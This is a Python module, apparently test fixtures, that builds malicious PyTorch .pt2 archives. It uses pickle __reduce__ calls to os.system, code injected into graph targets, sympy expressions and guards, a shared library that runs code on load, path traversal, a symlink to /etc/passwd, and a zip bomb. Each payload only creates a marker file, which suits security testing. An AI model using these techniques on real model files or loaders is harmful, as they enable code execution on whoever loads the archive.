"""Builders of hostile `.pt2` archives: each rewrites one written by `torch.export.save`."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile

import torch


class Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.l = torch.nn.Linear(4, 3)

    def forward(self, x):
        return torch.relu(self.l(x))


def benign(path, dynamic=False):
    torch.manual_seed(0)
    x = torch.randn(3, 4)
    shapes = {"x": {0: torch.export.Dim("batch")}} if dynamic else None
    torch.export.save(torch.export.export(Net().eval(), (x,), dynamic_shapes=shapes), str(path))
    return path


def rewrite(src, dst, change=None, add=None, edit_json=None):
    change = change or {}
    add = add or {}
    with zipfile.ZipFile(src) as zin:
        root = zin.namelist()[0].partition("/")[0]
        items = [(i.filename.partition("/")[2], zin.read(i)) for i in zin.infolist()]
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for rel, data in items:
            if rel in change:
                data = change[rel]
            if edit_json and rel in edit_json:
                doc = json.loads(data)
                edit_json[rel](doc)
                data = json.dumps(doc).encode()
            zout.writestr(f"{root}/{rel}", data)
        for rel, data in add.items():
            zout.writestr(f"{root}/{rel}" if not rel.startswith("/") else rel[1:], data)
    return dst


def torch_bytes(obj):
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def sample_inputs(src, dst, marker):
    return rewrite(
        src, dst, change={"data/sample_inputs/model.pt": torch_bytes(((Payload(marker),), {}))}
    )


def pickled_weight(src, dst, marker):
    def edit(doc):
        doc["config"]["l.bias"]["use_pickle"] = True

    return rewrite(
        src,
        dst,
        change={"data/weights/weight_1": torch_bytes(Payload(marker))},
        edit_json={"data/weights/model_weights_config.json": edit},
    )


def opaque_constant(src, dst, marker):
    def edit(doc):
        doc["config"]["c"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }

    return rewrite(
        src,
        dst,
        add={"data/constants/opaque_obj_0": pickle.dumps(Payload(marker))},
        edit_json={"data/constants/model_constants_config.json": edit},
    )


def _nodes(doc):
    return doc["graph_module"]["graph"]["nodes"]


def callable_target(src, dst, marker):
    def edit(doc):
        node = next(n for n in _nodes(doc) if n["target"] == "torch.ops.aten.relu.default")
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]

    return rewrite(src, dst, edit_json={"models/model.json": edit})


def sympy_expr(src, dst, marker):
    # src must have a dynamic batch
    def edit(doc):
        text = json.dumps(doc)
        evil = f"__import__('os').system('touch {marker}') and Symbol('s77', positive=True, integer=True)"
        doc.clear()
        doc.update(json.loads(text.replace("Symbol('s77', positive=True, integer=True)", evil)))

    return rewrite(src, dst, edit_json={"models/model.json": edit})


def guards(src, dst, marker):
    def edit(doc):
        doc["guards_code"] = [f"__import__('os').system('touch {marker}') == 0"]

    return rewrite(src, dst, edit_json={"models/model.json": edit})


def custom_op(src, dst, marker=None):
    def edit(doc):
        node = next(n for n in _nodes(doc) if n["target"] == "torch.ops.aten.relu.default")
        node["target"] = "torch.ops.myns.myop.default"

    return rewrite(src, dst, edit_json={"models/model.json": edit})


EVIL_C = """
#include <stdio.h>
__attribute__((constructor)) static void fire(void) {
    FILE *f = fopen("%s", "w");
    if (f) { fputs("fired", f); fclose(f); }
}
"""
AOTI_META = b'{"AOTI_DEVICE_KEY": "cpu", "AOTI_PLATFORM": "linux", "AOTI_MACHINE": "x86_64"}'


def compiler() -> str | None:
    import shutil

    return shutil.which("gcc") or shutil.which("cc")


def compiled(src, dst, marker=None):
    """An AOTInductor member: a shared library whose constructor writes the marker (a stub
    without a C compiler). torch.export.load dlopens it before it finds the symbols missing."""
    import subprocess
    import tempfile

    lib = b"\x7fELF" + b"\0" * 60
    cc = compiler()
    if cc is not None and marker is not None:
        with tempfile.TemporaryDirectory() as tmp:
            c = os.path.join(tmp, "evil.c")
            with open(c, "w") as f:
                f.write(EVIL_C % str(marker).replace("\\", "/"))
            out = os.path.join(tmp, "evil.so")
            subprocess.run([cc, "-shared", "-fPIC", "-o", out, c], check=True, timeout=60)
            with open(out, "rb") as f:
                lib = f.read()
    return rewrite(
        src,
        dst,
        add={
            "data/aotinductor/model/x.wrapper.so": lib,
            "data/aotinductor/model/x.wrapper_metadata.json": AOTI_META,
        },
    )


def extra_pickle(src, dst, marker=None):
    return rewrite(src, dst, add={"data/weights/extra.pkl": pickle.dumps([1, 2])})


def escaping(src, dst, marker=None):
    return rewrite(src, dst, add={"/m/../../escape": b"x"})


def symlink(src, dst, marker=None):
    rewrite(src, dst)
    with zipfile.ZipFile(dst, "a") as zf:
        info = zipfile.ZipInfo(zf.namelist()[0].partition("/")[0] + "/extra/link")
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/etc/passwd")
    return dst


def bomb(src, dst, marker=None):
    rewrite(src, dst)
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as zf:
        root = zf.namelist()[0].partition("/")[0]
        zf.writestr(f"{root}/extra/notes.txt", b"\0" * (64 << 20))
    return dst
